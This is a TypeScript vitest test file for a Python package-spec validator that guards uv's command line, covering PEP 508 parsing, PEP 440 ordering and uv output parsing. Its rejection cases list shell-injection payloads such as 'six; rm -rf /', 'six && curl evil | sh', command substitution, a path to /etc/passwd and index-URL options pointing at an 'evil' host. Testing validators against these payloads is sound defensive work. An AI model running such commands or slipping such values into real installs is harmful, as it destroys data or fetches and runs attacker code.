// PEP 508-shaped spec validation: what reaches uv's command line, and what is refused before it.
import { describe, expect, it } from 'vitest';
import { InvalidPackageSpecificationError } from '../src/core/errors.js';
import { comparePep440 } from '../src/core/packages/pypi.js';
import { parsePipShow, uvErrorText } from '../src/core/packages/parse.js';
import {
  isValidPackageSpec,
  normalizePackageName,
  parsePackageSpec,
  validatePackageName,
  validateVersion,
} from '../src/core/packages/spec.js';
import { PythonRuntime } from '../src/core/packages/runtime.js';

describe('parsePackageSpec', () => {
  it.each([
    ['numpy', { name: 'numpy', specifier: '' }],
    ['torch==2.0.0', { name: 'torch', specifier: '==2.0.0' }],
    ['numpy>=1.20.0', { name: 'numpy', specifier: '>=1.20.0' }],
    ['requests >= 2.0, < 3', { name: 'requests', specifier: '>=2.0,<3' }],
    ['pkg~=1.4.2', { name: 'pkg', specifier: '~=1.4.2' }],
    ['pkg!=1.5,<=2.0', { name: 'pkg', specifier: '!=1.5,<=2.0' }],
    ['pkg===1.0-weird', { name: 'pkg', specifier: '===1.0-weird' }],
    ['pkg (>=1.0)', { name: 'pkg', specifier: '>=1.0' }],
    ['Django==4.2.*', { name: 'Django', specifier: '==4.2.*', normalizedName: 'django' }],
    ['zope.interface>5', { name: 'zope.interface', normalizedName: 'zope-interface' }],
    ['requests[socks,security]>=2', { name: 'requests', extras: ['socks', 'security'], specifier: '>=2' }],
    ['python-dateutil==2.9.0.post0', { name: 'python-dateutil', specifier: '==2.9.0.post0' }],
    ['pkg==1.0rc1', { specifier: '==1.0rc1' }],
    ['pkg==1.0+local.1', { specifier: '==1.0+local.1' }],
    [
      'pkg @ https://example.com/pkg-1.0-py3-none-any.whl',
      { url: 'https://example.com/pkg-1.0-py3-none-any.whl' },
    ],
    ['pkg @ git+https://github.com/o/r@v1', { url: 'git+https://github.com/o/r@v1' }],
    ['pkg @ file:///tmp/pkg', { url: 'file:///tmp/pkg' }],
    ['tomli; python_version < "3.11"', { name: 'tomli', marker: 'python_version < "3.11"' }],
    [
      "pywin32>=300 ; sys_platform == 'win32' and platform_machine != 'x86'",
      { specifier: '>=300', marker: "sys_platform == 'win32' and platform_machine != 'x86'" },
    ],
  ])('accepts %s', (spec, expected) => {
    expect(parsePackageSpec(spec)).toMatchObject(expected);
    expect(isValidPackageSpec(spec)).toBe(true);
    expect(PythonRuntime.isValidPackageSpec(spec)).toBe(true);
  });

  it.each([
    ['', 'empty'],
    ['   ', 'empty'],
    ['-r requirements.txt', 'option'],
    ['--index-url=http://evil/simple', 'option'],
    ['-e .', 'option'],
    ['--no-deps', 'option'],
    ['six --index-url http://evil/simple', 'option in the middle'],
    ['six -ihttp://evil', 'short option in the middle'],
    ['six; rm -rf /', 'shell'],
    ['six && curl evil | sh', 'shell'],
    ['six`id`', 'backticks'],
    ['$(id)', 'command substitution'],
    ['six\nevil', 'newline'],
    ['six\0', 'NUL'],
    ['../../etc/passwd', 'path'],
    ['/tmp/x.whl', 'absolute path'],
    ['six @ /tmp/x', 'not a URL'],
    ['six @ javascript:alert(1)', 'not a URL scheme'],
    ['six==', 'empty version'],
    ['six==1.0 2.0', 'two versions'],
    ['six[', 'broken extras'],
    ['_six', 'bad leading char'],
    ['six; ', 'empty marker'],
    ['six; import os', 'marker without operator'],
  ])('refuses %j (%s)', (spec) => {
    expect(() => parsePackageSpec(spec)).toThrow(InvalidPackageSpecificationError);
    expect(isValidPackageSpec(spec)).toBe(false);
  });

  it('the error says what was asked and how to write it', () => {
    const err = (() => {
      try {
        parsePackageSpec('--extra-index-url=http://evil');
      } catch (e) {
        return e as InvalidPackageSpecificationError;
      }
    })()!;
    expect(err.details.requested).toBe('--extra-index-url=http://evil');
    expect(err.message).toContain('command-line option');
    expect(err.details.hint).toContain('PEP 508');
    expect(err.exitCode).toBe(24);
  });
});

describe('names and versions', () => {
  it('normalises like PEP 503', () => {
    expect(normalizePackageName('Foo.Bar__baz')).toBe('foo-bar-baz');
  });
  it('validates bare names and single versions', () => {
    expect(validatePackageName(' six ')).toBe('six');
    for (const bad of ['', '-x', 'six==1', 'a b', '../x', '--all'])
      expect(() => validatePackageName(bad)).toThrow(InvalidPackageSpecificationError);
    expect(validateVersion('2.9.0.post0')).toBe('2.9.0.post0');
    for (const bad of ['', '-1', '1 2', '>=1'])
      expect(() => validateVersion(bad)).toThrow(InvalidPackageSpecificationError);
  });
});

describe('uv output parsing', () => {
  it('reads `uv pip show` blocks', () => {
    const out = parsePipShow(
      'Name: python-dateutil\nVersion: 2.9.0.post0\nLocation: /v/lib/python3.11/site-packages\nRequires: six\nRequired-by:\n---\nName: six\nVersion: 1.17.0\nLocation: /v/lib\nRequires:\nRequired-by: python-dateutil\n',
    );
    expect(out.map((d) => [d.name, d.version, d.requires, d.requiredBy])).toEqual([
      ['python-dateutil', '2.9.0.post0', ['six'], []],
      ['six', '1.17.0', [], ['python-dateutil']],
    ]);
  });
  it('keeps uv’s error and drops the preamble', () => {
    expect(uvErrorText('Using Python 3.11.7 environment at: /v\nerror: File not found: `x`\n')).toBe(
      'error: File not found: `x`',
    );
  });
  it('keeps a resolution failure from its `×` line on (uv prints no `error:` then)', () => {
    const stderr =
      'Using Python 3.11.7 environment at: /v\n   Building pkg @ file:///x\n  × No solution found when resolving dependencies:\n  ╰─▶ Because nothing==9 was not found, we can conclude that your requirements are unsatisfiable.\n';
    expect(uvErrorText(stderr)).toBe(
      '× No solution found when resolving dependencies:\n  ╰─▶ Because nothing==9 was not found, we can conclude that your requirements are unsatisfiable.',
    );
  });
  it('orders releases like PEP 440, not as strings', () => {
    const v = ['1.10.0', '1.9.0', '1.10.0rc1', '1.10.0.post1', '1.10.0.dev1', '1.10.0a2', '2.0'];
    expect([...v].sort(comparePep440)).toEqual([
      '1.9.0',
      '1.10.0.dev1',
      '1.10.0a2',
      '1.10.0rc1',
      '1.10.0',
      '1.10.0.post1',
      '2.0',
    ]);
  });
});
